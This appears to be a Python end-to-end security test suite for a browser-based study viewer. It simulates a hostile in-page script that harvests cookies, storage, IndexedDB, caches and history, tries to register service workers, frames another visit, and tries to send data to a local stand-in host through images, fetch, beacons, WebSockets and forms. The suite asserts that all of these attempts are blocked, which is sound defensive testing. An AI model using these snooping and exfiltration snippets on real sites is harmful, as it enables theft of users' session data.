"""What a script in the viewer's page may try against the other visits of one browser: they share the origin.

A visit's cookie lies below its own path, but a script that knew another visit's id could ask below that one's. So the
id must not be learnt, and no script may stay when its page has gone.
"""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.e2e import dataset
from tests.e2e.visitor import Visitor, visitor
from tests.servers.keyhole import COOKIE, Keyhole, keyhole

pytestmark = pytest.mark.e2e

SHORT = range(1, 6)

LOOK = """async () => {
    const found = {
        cookie: document.cookie, referrer: document.referrer, name: window.name, opener: String(window.opener),
        history: (window.navigation?.entries() ?? []).map((entry) => entry.url),
        asked: performance.getEntries().map((entry) => entry.name),
        local: Object.entries(localStorage), session: Object.entries(sessionStorage), databases: [], caches: [],
        workers: (await navigator.serviceWorker.getRegistrations()).map((each) => each.scope),
        locks: JSON.stringify(await navigator.locks.query()), state: JSON.stringify(history.state),
    };
    for (const name of await caches.keys()) {
        found.caches.push(name, ...(await (await caches.open(name)).keys()).map((request) => request.url));
    }
    for (const {name, version} of await indexedDB.databases()) {
        const base = await new Promise((done) => {
            const opening = indexedDB.open(name, version);
            opening.onsuccess = () => done(opening.result);
        });
        for (const store of base.objectStoreNames) {
            const all = base.transaction(store).objectStore(store);
            const [keys, values] = await Promise.all([all.getAllKeys(), all.getAll()].map((asked) =>
                new Promise((done) => { asked.onsuccess = () => done(asked.result); })));
            found.databases.push(name, store, JSON.stringify(keys), JSON.stringify(values));
        }
    }
    return found;
}"""

REGISTER = """async () => {
    const refused = [];
    const scripts = [...document.scripts].map((each) => each.src).filter((src) => src.startsWith(location.origin));
    for (const script of [...scripts, '/app-config.js', '/init-service-worker.js', '/static/landing.js']) {
        try {
            await navigator.serviceWorker.register(script, {scope: '/'});
        } catch (error) {
            refused.push(script);
        }
    }
    return {tried: scripts.length + 3, refused: refused.length,
            registered: (await navigator.serviceWorker.getRegistrations()).length};
}"""


SEND = """async (address) => {
    const refused = [];
    await new Promise((done) => {
        const image = new Image();
        image.onerror = () => done(refused.push('picture'));
        image.onload = done;
        image.src = address;
    });
    await fetch(address, {mode: 'no-cors'}).catch(() => refused.push('fetch'));
    navigator.sendBeacon(address, 'x');
    await new Promise((done) => {
        const socket = new WebSocket(address.replace('http', 'ws'));
        socket.onopen = done;
        socket.onerror = () => done(refused.push('socket'));
    });
    await new Promise((done) => {
        addEventListener('securitypolicyviolation', (said) => {
            if (said.effectiveDirective === 'form-action') done(refused.push('form'));
        });
        const form = document.createElement('form');
        form.action = address;
        document.body.append(form);
        form.submit();
        setTimeout(done, 5000);
    });
    return refused;
}"""


@pytest.fixture(scope="module")
def server(studies: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Keyhole]:
    with keyhole(tmp_path_factory.mktemp("scripted"), {"KEYHOLE_ARCHIVE": str(studies)}) as running:
        yield running


@pytest.fixture
def person(browser: Browser, server: Keyhole) -> Iterator[Visitor]:
    with visitor(browser, server) as who:
        yield who


def look(person: Visitor, server: Keyhole, study: str) -> str:
    """Open a link to *study* and look at it; the visit's id."""
    person.open(server.share(study))
    person.enter_viewer()
    person.sees(study, SHORT)
    return person.visit.strip("/").removeprefix("v/")


def learnt(page: Page) -> Mapping[str, Any]:
    """Everything that outlives a page, or tells of others, as a script finds it."""
    found: Mapping[str, Any] = page.evaluate(LOOK)
    return found


def arrived(listener: socket.socket) -> bytes:
    """What was sent to *listener*; browsers connect to where they will not send anything."""
    listener.settimeout(1)
    received = b""
    with contextlib.suppress(OSError):
        while True:
            connection, _ = listener.accept()
            with connection:
                connection.settimeout(1)
                received += connection.recv(4096)
    return received


def test_a_script_learns_the_id_of_no_other_visit(person: Visitor, server: Keyhole) -> None:
    other = look(person, server, dataset.PRIOR)
    mine = look(person, server, dataset.EARLIER)  # in the same tab, where its history is
    found = learnt(person.page)
    assert mine in str(found), "this looks in the wrong places"
    assert [where for where, what in found.items() if other in str(what)] == []


def test_a_script_reads_no_credential(person: Visitor, server: Keyhole) -> None:
    look(person, server, dataset.PRIOR)
    found = str(learnt(person.page))
    assert [cookie["httpOnly"] for cookie in person.context.cookies() if cookie["name"] == COOKIE] == [True]
    assert not [secret for secret in server.secrets if len(secret) >= 32 and secret in found]


def test_no_script_stays_as_a_service_worker_that_would_see_every_visit(person: Visitor, server: Keyhole) -> None:
    look(person, server, dataset.PRIOR)
    done = person.page.evaluate(REGISTER)
    assert done["tried"] > 3
    assert (done["refused"], done["registered"]) == (done["tried"], 0)


def test_a_visit_whose_id_is_known_is_shown_in_no_frame(person: Visitor, server: Keyhole) -> None:
    other = look(person, server, dataset.PRIOR)
    look(person, server, dataset.EARLIER)
    framed = person.page.evaluate(
        """async (path) => {
            const frame = document.createElement('iframe');
            frame.src = path;
            const loaded = new Promise((done) => { frame.onload = done; });
            document.body.append(frame);
            await loaded;
            return frame.contentDocument === null || frame.contentDocument.body.innerText;
        }""",
        f"/v/{other}/",
    )
    assert framed is True


def test_a_script_sends_nothing_anywhere_else(person: Visitor, server: Keyhole) -> None:
    look(person, server, dataset.PRIOR)
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        address = f"http://localhost:{elsewhere.getsockname()[1]}/"
        refused = person.page.evaluate(SEND, address)
        assert refused == ["picture", "fetch", "socket", "form"]
        assert arrived(elsewhere) == b"", "something left"
